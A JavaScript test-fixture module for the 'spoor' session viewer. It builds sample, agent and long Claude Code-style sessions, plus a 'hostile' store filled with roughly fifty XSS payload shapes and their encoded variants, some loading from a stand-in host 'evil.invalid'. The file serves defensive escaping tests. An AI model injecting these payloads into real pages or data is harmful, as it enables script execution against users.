// The stores that the page is shown with: the sample session, a hostile one, and a long one.
import {spawn, spawnSync} from 'node:child_process';
import {createWriteStream} from 'node:fs';
import {mkdtemp, rm, writeFile} from 'node:fs/promises';
import {once} from 'node:events';
import {tmpdir} from 'node:os';
import {join, resolve} from 'node:path';
import {createInterface} from 'node:readline';
import {fileURLToPath} from 'node:url';

export const kTree = resolve(fileURLToPath(import.meta.url), '../../..');
export const kProgram = resolve(process.env['SPOOR_PROGRAM'] ?? join(kTree, 'build/dev/spoor'));
const kSample = join(kTree, 'examples/data/sample-session.jsonl');

export class Home {
  static async make() {
    const home = new Home();
    home.path = await mkdtemp(join(tmpdir(), 'spoor-page-'));
    home.servers = [];
    return home;
  }

  environment() {
    return {HOME: this.path, SPOOR_AUTHOR: 'ada', LC_ALL: 'C.UTF-8', PATH: '/usr/bin:/bin', TZ: 'UTC'};
  }

  spoor(...words) {
    const done = spawnSync(kProgram, words, {cwd: this.path, env: this.environment(), encoding: 'utf8', maxBuffer: 1 << 28});
    if (done.status !== 0) throw new Error(`spoor ${words.join(' ')}: ${done.stderr}`);
    return done.stdout;
  }

  json(...words) {
    return JSON.parse(this.spoor(...words, '--json'));
  }

  // Starts the page, and returns its address without the token, and the token.
  async open(...words) {
    const server = spawn(kProgram, ['open', ...words], {cwd: this.path, env: this.environment(), stdio: ['ignore', 'pipe', 'inherit']});
    this.servers.push(server);
    const [line] = await once(createInterface(server.stdout), 'line');
    const [base, token] = line.split('/#');
    return {base, token: token.slice(0, 43), address: line};
  }

  // A stream of requests to `spoor batch`, answered one by one.
  batch() {
    const child = spawn(kProgram, ['batch'], {cwd: this.path, env: this.environment(), stdio: ['pipe', 'pipe', 'inherit']});
    this.servers.push(child);
    const lines = createInterface(child.stdout)[Symbol.asyncIterator]();
    return {
      async ask(op, members = {}) {
        child.stdin.write(JSON.stringify({op, ...members}) + '\n');
        const answer = JSON.parse((await lines.next()).value);
        if (answer.error) throw new Error(`${op}: ${answer.error.message}`);
        return answer.result;
      },
      async end() {
        child.stdin.end();
        await once(child, 'exit');
      },
    };
  }

  async remove() {
    for (const server of this.servers) if (server.exitCode === null) server.kill('SIGINT');
    await rm(this.path, {recursive: true, force: true, maxRetries: 20, retryDelay: 100});
  }
}

// The sample session with a fork, a skipped and an edited turn, a picture, and a decision.
export async function sampleHome() {
  const home = await Home.make();
  home.spoor('import', kSample);
  home.spoor('skip', '61da5265', 'no longer so');
  home.spoor('edit', '291bc999', "I'll look for each place.");
  const batch = home.batch();
  await batch.ask('branch', {name: 'fork/c62b0c8e', to: 'c62b0c8e'});
  await batch.ask('assistant', {text: 'Three tea tins are 13.05.', branch: 'fork/c62b0c8e'});
  await batch.ask('user', {text: 'Look at this picture.', branch: 'picture', attach: [{media_type: 'image/png', base64:
    'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC'},
    {media_type: 'image/svg+xml', text: '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'owned\'"/>'}]});
  await batch.ask('assistant', {text: 'A red square.', branch: 'picture'});
  await batch.end();
  home.spoor('fork', 'c62b0c8e', '--n', '2', '--model', `scripted/${kTree}/examples/data/replies.jsonl`,
             '--model', `scripted/${kTree}/examples/data/rash-replies.jsonl`, '--expect', 'half a cent');
  return home;
}

// A session of Claude Code with a sub-agent.
export async function agentHome() {
  const home = await Home.make();
  const records = [];
  const add = (uuid, parentUuid, type, message, isSidechain = false) => records.push({type, uuid, parentUuid,
    sessionId: '77770000-0000-4000-8000-000000000001', timestamp: `2026-03-01T10:00:0${records.length}.000Z`, cwd: '/home/ada/p', isSidechain,
    ...(isSidechain ? {agentId: 'a1b2'} : {}), message});
  const said = (id, content) => ({id, role: 'assistant', model: 'claude-opus-4-6', content, usage: {input_tokens: 7, output_tokens: 3}});
  add('u1', null, 'user', {role: 'user', content: 'Find the callers.'});
  add('u2', 'u1', 'assistant', said('m1', [{type: 'tool_use', id: 't1', name: 'Task', input: {prompt: 'List all callers of total().', subagent_type: 'Explore'}}]));
  add('s1', null, 'user', {role: 'user', content: 'List all callers of total().'}, true);
  add('s2', 's1', 'assistant', said('m2', [{type: 'text', text: 'One caller: cart.py, line 13.'}]), true);
  add('u3', 'u2', 'user', {role: 'user', content: [{type: 'tool_result', tool_use_id: 't1', content: 'One caller.'}]});
  add('u4', 'u3', 'assistant', said('m3', [{type: 'text', text: 'There is one.'}]));
  await writeFile(join(home.path, 'agent.jsonl'), records.map((each) => JSON.stringify(each)).join('\n') + '\n');
  home.spoor('import', 'agent.jsonl');
  return home;
}

// A session of `count` turns, as Claude Code writes it.
export async function longHome(count) {
  const home = await Home.make();
  const path = join(home.path, 'long.jsonl');
  const out = createWriteStream(path);
  let seed = 1;
  const random = () => (seed = (seed * 48271) % 2147483647) / 2147483647;
  let time = Date.parse('2026-03-01T09:00:00Z');
  let last = null;
  let at = 0;
  const put = (record) => {
    const uuid = `${String(at).padStart(8, '0')}-0000-4000-8000-${String(at).padStart(12, '0')}`;
    ++at;
    out.write(JSON.stringify({...record, uuid, parentUuid: last, sessionId: '10000000-0000-4000-8000-000000000001',
      timestamp: new Date(time).toISOString(), cwd: '/home/dev/long', isSidechain: false}) + '\n');
    last = uuid;
  };
  let context = 8000;
  while (at < count) {
    const module = at % 97;
    put({type: 'user', message: {role: 'user', content: `Request ${at}: make module ${module} faster and keep its tests green.`}});
    for (let left = 5 + Math.floor(random() * 35); left > 0 && at < count; --left) {
      time += 1000 + random() * 24_000;
      context = context > 180_000 ? 9000 : context + 300;
      const message = (content) => ({type: 'assistant', message: {id: `msg_${module}_${at - at % 1}_${left}`, role: 'assistant', model: 'claude-sonnet-4-5-20250929', content,
        usage: {input_tokens: 9, cache_read_input_tokens: context, cache_creation_input_tokens: 300, output_tokens: 40 + Math.floor(random() * 800)}}});
      const id = `toolu_${at}`;
      const [name, input] = random() < 0.5 ? ['Bash', {command: `python3 -m unittest -q tests.test_${module}`}]
        : ['Edit', {file_path: `/home/dev/long/mod_${module}.py`, old_string: 'for row in rows:\n    read(path)\n', new_string: 'text = read(path)\nfor row in rows:\n    use(text)\n'}];
      put(message([{type: 'thinking', thinking: `The loop in module ${module} reads the file again for each row; read it once. `.repeat(1 + Math.floor(random() * 5)), signature: 'c2ln'}]));
      put(message([{type: 'tool_use', id, name, input}]));
      time += 100 + random() * 9000;
      const isError = random() < 0.04;
      put({type: 'user', message: {role: 'user', content: [{type: 'tool_result', tool_use_id: id, is_error: isError,
        content: (isError ? 'Exit code 1\n' : '') + '\u001b[32mRan 7 tests in 0.01s\u001b[0m\n\nOK\n'.repeat(1 + Math.floor(random() * 4))}]}});
    }
    time += 1000;
    put({type: 'assistant', message: {id: `end_${at}`, role: 'assistant', model: 'claude-sonnet-4-5-20250929', content: [{type: 'text', text: `Module ${module} now reads each file **once**; its tests pass.`}],
      usage: {input_tokens: 5, cache_read_input_tokens: 9000, cache_creation_input_tokens: 100, output_tokens: 60}}});
    time += 60_000;
  }
  out.end();
  await once(out, 'finish');
  home.spoor('import', path);
  await rm(path);
  home.spoor('sessions');
  return home;
}

// ---- What a model, a tool or a file may say so that somebody's browser does something ----

const kAct = 'window.__owned=1';
const kElsewhere = 'http://evil.invalid/x';
const kShapes = [
  `<script>${kAct}</script>`, `<script src="${kElsewhere}"></script>`, `<img src=x onerror="${kAct}">`, `<img src="${kElsewhere}">`,
  `<svg onload="${kAct}"></svg>`, `<svg><script>${kAct}</script></svg>`, `<iframe src="javascript:${kAct}"></iframe>`,
  `<iframe srcdoc="<script>parent.${kAct}</script>"></iframe>`, `<object data="${kElsewhere}"></object>`, `<embed src="${kElsewhere}">`,
  `<a href="javascript:${kAct}">go</a>`, `[go](javascript:${kAct})`, `![x](${kElsewhere})`, `[x](data:text/html,<script>${kAct}</script>)`,
  `<link rel=stylesheet href="${kElsewhere}">`, `<style>@import "${kElsewhere}";body{display:none}</style>`, `<meta http-equiv=refresh content="0;url=${kElsewhere}">`,
  `<base href="${kElsewhere}">`, `<form action="${kElsewhere}"><button autofocus onfocus="${kAct}">`, `<input autofocus onfocus="${kAct}">`,
  `<details open ontoggle="${kAct}">`, `<video><source onerror="${kAct}"></video>`, `<math><mtext><table><mglyph><style><img src=x onerror="${kAct}">`,
  `"><script>${kAct}</script>`, `'><img src=x onerror=${kAct}>`, `</title><script>${kAct}</script>`, `</textarea><script>${kAct}</script>`,
  `</script><script>${kAct}</script>`, `<!--><script>${kAct}</script>`, `<![CDATA[<script>${kAct}</script>]]>`,
  '\u001b]8;;javascript:' + kAct + '\u0007link\u001b]8;;\u0007', '\u001b]0;owned\u0007\u001b[31m' + `<script>${kAct}</script>`,
  `\u202e<script>${kAct}</script>\u202c`, `{{constructor.constructor('${kAct}')()}}`, '${' + kAct + '}', `{"__proto__":{"onerror":"${kAct}"}}`,
  `javascript:${kAct}`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19vd25lZD0xPC9zY3JpcHQ+`, `${'`'.repeat(3)}html\n<script>${kAct}</script>\n${'`'.repeat(3)}`,
  `| <img src=x onerror=${kAct}> | b |\n|---|---|`, `**<img src=x onerror=${kAct}>**`, '`<script>' + kAct + '</script>`', `# <svg onload=${kAct}>`,
  `> <iframe src=javascript:${kAct}>`, `- <img src=x onerror=${kAct}>`, `<IMG SRC=x ONERROR=${kAct}>`, `<img src=x onerror\u000b=${kAct}>`,
  `<x onclick=${kAct} style="position:fixed;inset:0">`, `<template shadowrootmode=open><script>${kAct}</script></template>`, `<audio src onerror=${kAct}>`,
];

// Payloads: each shape as it is and in forms that a decoder might undo.
export function payloads(count) {
  const forms = [(text) => text, (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'), (text) => text.replace(/script/g, 'scr\u0000ipt'),
    (text) => encodeURIComponent(text), (text) => text.replace(/[<>]/g, (c) => '\\u00' + c.charCodeAt(0).toString(16)), (text) => text.toUpperCase().replace(/WINDOW.__OWNED/g, 'window.__owned')];
  const all = forms.flatMap((form) => kShapes.map(form));
  if (all.length < count) throw new Error(`there are only ${all.length} payloads`);
  return all;
}

// A store that has every payload in every field that takes a text.
export async function hostileHome(texts) {
  const home = await Home.make();
  home.spoor('init');
  const batch = home.batch();
  const clean = (text) => text.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, ' ').trim();
  const word = (text) => clean(text).slice(0, 120) || 'x';
  await batch.ask('system', {text: texts[0], branch: 'hostile'});
  let first = null;
  for (const [i, text] of texts.entries()) {
    const id = `call ${text}`.slice(0, 200);
    const time = new Date(Date.parse('2026-03-01T09:00:00Z') + i * 60_000).toISOString();
    const common = {branch: 'hostile', time, author: word(text), message: clean(text), tags: [word(text)], metadata: {[clean(text) || 'k']: text}};
    const asked = await batch.ask('user', {text, name: text, ...common});
    first ??= asked.hash;
    await batch.ask('reasoning', {text, format: 'parsed', ...common, meta: {model: text, provider: text}});
    await batch.ask('assistant', {text, ...common, meta: {model: text, provider: text, finish_reason: text, message_id: `m${i}`, usage: {input_tokens: 5, output_tokens: 7}},
      tool_calls: [{id, name: text, arguments: JSON.stringify({file_path: text, command: text, old_string: text, new_string: text + '\n' + text, [text]: text})},
                   {id: id + '2', name: 'Edit', arguments: JSON.stringify({file_path: `/tmp/${text}.txt`, old_string: text, new_string: text + '\n' + text})}]});
    await batch.ask('tool', {text, call_id: id, name: text, is_error: i % 3 === 0, ...common});
    await batch.ask('tool', {text, call_id: id + '2', name: 'Edit', ...common,
      attach: i % 10 === 0 ? [{media_type: 'image/svg+xml', text}, {media_type: 'text/html', text}, {media_type: 'image/png', text}] : []});
    if (i % 5 === 0) await batch.ask('annotate', {target: asked.hash, priority: 'skip', reason: text, branch: 'hostile'});
    if (i % 5 === 1) await batch.ask('edit', {target: asked.hash, text: text + ' edited', branch: 'hostile'});
    if (i % 5 === 2) await batch.ask('decision', {text, set: undefined, branch: 'hostile', meta: {decision: text}});
    if (i % 5 === 3) await batch.ask('config', {set: {[clean(text).slice(0, 60) || 'k']: text}, branch: 'hostile'}).catch(() => undefined);
    if (i % 40 === 4) await batch.ask('branch', {name: `x/${i}${text.replace(/[^A-Za-z0-9<>"'=()&;!]/g, '')}`.slice(0, 100), to: asked.hash}).catch(() => undefined);
  }
  await batch.end();
  return home;
}
